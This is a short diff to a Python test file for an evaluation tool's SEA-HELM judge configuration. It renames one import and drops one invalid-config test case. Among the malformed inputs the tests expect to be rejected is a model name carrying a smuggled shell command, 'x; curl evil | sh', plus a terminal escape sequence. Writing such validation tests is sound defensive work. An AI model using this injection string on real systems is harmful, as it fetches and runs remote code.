@@ -15,7 +15,7 @@ import pytest
 
 from compat.sea_helm.sea_results import rows_of, task, write_results
 from evalwright.cli import main
-from evalwright.compat.sea_helm.judges import judges_of
+from evalwright.compat.sea_helm.judging import judges_of
 from evalwright.compat.sea_helm.oneruler import oneruler_rows
 from evalwright.compat.sea_helm.task import SeaTask
 from evalwright.core.errors import ConfigurationError, DatasetError, ScoringError, TaskError
@@ -134,7 +134,6 @@ def test_an_image_that_is_none_fails_alone(own_folder: Path) -> None:
         {"judge_generation_kwargs": 5},
         {"judge_generation_kwargs": {"max_tokens": "abc"}},
         {"judge_generation_kwargs": {"temperature": float("nan")}},
-        {"judge_init_args": 5},
         {"judge_model_name": "x; curl evil | sh"},
         {"judge_model_name": "x\x1b[2J"},
     ],
